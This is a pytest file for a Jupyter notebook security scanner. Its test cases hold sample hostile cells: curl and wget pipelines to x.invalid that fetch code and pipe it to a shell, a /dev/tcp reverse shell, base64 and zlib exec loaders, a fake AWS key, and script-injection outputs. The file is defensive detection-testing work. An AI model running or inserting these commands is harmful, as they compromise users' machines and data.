from __future__ import annotations

import json

import pytest
from tests.formats.scanning.desks import Looked, corpus, looked

from casemate.formats.scanning.readers import json_configs
from casemate.formats.scanning.signs import Level


def cell(source: object, outputs: object = ()) -> dict[str, object]:
    return {"cell_type": "code", "metadata": {}, "outputs": list(outputs), "execution_count": None, "source": source}  # type: ignore[call-overload]


def look(*cells: object, **more: object) -> Looked:
    text = json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more})
    return looked(text.encode(), json_configs.READERS, name="a.ipynb")


def test_an_ordinary_notebook_is_clean() -> None:
    table = {
        "output_type": "execute_result",
        "data": {"text/html": ["<div><style>a</style><table></table></div>"], "text/plain": ["x"]},
    }
    found = look(
        {"cell_type": "markdown", "source": ["# Title\n", "run `curl x | sh` never"]},
        cell(
            [
                "%matplotlib inline\n",
                "import pandas as pd\n",
                "!pip install -q pandas==2.0 'numpy<2'\n",
                "df = pd.read_csv('x.csv')\n",
                "df.head?\n",
            ],
            [table],
        ),
        cell("!nvidia-smi\n!ls -la\nfiles = !ls\nif True:\n    !mkdir -p out\n"),
        cell("%%time\nmodel.fit(x, y)"),
        cell("%%bash\npip install torch\nls\n"),
        cell(""),
    )
    assert found.formats == ("json",)
    assert not found.signs, [(sign.rule, sign.what) for sign in found.signs]


@pytest.mark.parametrize(
    ("source", "level"),
    [
        ("!curl -s http://x.invalid/x.sh | sh", "malicious"),
        (["!wget -qO- http://x.invalid | ", "bash"], "malicious"),
        ("%system curl http://x.invalid | bash", "malicious"),
        ("%%bash\ncd /tmp\ncurl http://x.invalid | sh", "malicious"),
        ("out = !bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "malicious"),
        ("exec(__import__('base64').b64decode('MSsx'))", "malicious"),
        ("%load_ext x\nimport zlib\nexec(zlib.decompress(b''))", "malicious"),
        ("import os\nos.system('true')", "suspicious"),
        ("get_ipython().system('true')", "suspicious"),
        ("!some_program --flag", "suspicious"),
        ("!pip install git+https://x.invalid/y", "suspicious"),
        ("%%javascript\nalert(1)", "suspicious"),
        ("token = 'AKIAQYLPMN5HHHFPZAM2'", "suspicious"),
    ],
)
def test_cells_that_fetch_and_run_are_told(source: object, level: str) -> None:
    assert look(cell(source)).level == level
    old = json.dumps({"worksheets": [{"cells": [{**cell(source), "input": source}]}]}).encode()
    assert looked(old, json_configs.READERS, name="old.ipynb").level == level


@pytest.mark.parametrize(
    "data",
    [
        {"application/javascript": "alert(1)"},
        {"text/html": "<script src='http://x.invalid/x.js'></script>"},
        {"text/html": ["<script>fet", "ch('http://x.invalid')</script>"]},
        {"image/svg+xml": "<svg onload=\"eval('1')\"/>"},
    ],
)
def test_scripts_in_outputs_are_suspicious(data: object) -> None:
    found = look(cell("1", [{"output_type": "display_data", "data": data}]))
    assert found.rules == {"notebook/script"}
    assert found.level is Level.SUSPICIOUS


def test_notebooks_of_the_corpus_and_odd_shapes() -> None:
    for path in ("notebook/b64_exec.ipynb", "notebook/shell_curl.ipynb"):
        assert looked(corpus(path), json_configs.READERS, name="a.ipynb").level is Level.MALICIOUS
    for odd in (
        1,
        None,
        [],
        {"cell_type": "code"},
        {"cell_type": "code", "source": {"a": 1}, "outputs": [1, {"data": [2]}]},
    ):
        assert "scan/reader-failed" not in look(odd).rules
